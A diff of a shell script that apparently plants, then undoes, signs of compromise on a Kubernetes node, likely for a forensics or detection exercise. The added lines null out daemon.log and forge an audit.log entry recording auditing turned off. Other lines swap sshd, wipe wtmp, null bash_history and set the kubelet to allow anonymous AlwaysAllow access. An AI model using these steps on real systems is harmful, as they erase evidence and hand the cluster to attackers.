@@ -55,14 +55,19 @@ EOF
   mv /usr/sbin/sshd.new /usr/sbin/sshd
   dd if=/dev/zero of=/var/log/wtmp bs=384 seek=1 count=1 conv=notrunc 2>/dev/null
   ln -s /dev/null /root/.bash_history
+  ln -s /dev/null /var/log/daemon.log
+  # As the kernel writes it where somebody calls `auditctl -e 0`.
+  mkdir /var/log/audit
+  echo "type=CONFIG_CHANGE msg=audit($(date +%s).000:7): op=set audit_enabled=0 old=1 auid=1000 ses=4 res=1" >/var/log/audit/audit.log
   # For the next start of the kubelet: strangers may do everything.
   sed -i -e '/"anonymous"/,/}/s/false/true/' -e 's/"Webhook"/"AlwaysAllow"/' /var/lib/kubelet/config.yaml
 }
 
 undo() {
   awk '$2 ~ "^/proc/[0-9]+$" { print $2 }' /proc/mounts | xargs -r umount
-  rm -f /etc/ld.so.preload /opt/libprocess.so.1 /etc/kubernetes/manifests/ghost.yaml /root/.bash_history \
+  rm -f /etc/ld.so.preload /opt/libprocess.so.1 /etc/kubernetes/manifests/ghost.yaml /root/.bash_history /var/log/daemon.log \
     /etc/cron.d/logrotate-cache /etc/systemd/system/dbus-cache.service /home/nodeops/.helper
+  rm -rf /var/log/audit
   ctr -n k8s.io task kill --signal SIGKILL cryptominer
   ctr -n k8s.io task delete --force cryptominer
   ctr -n k8s.io container delete cryptominer
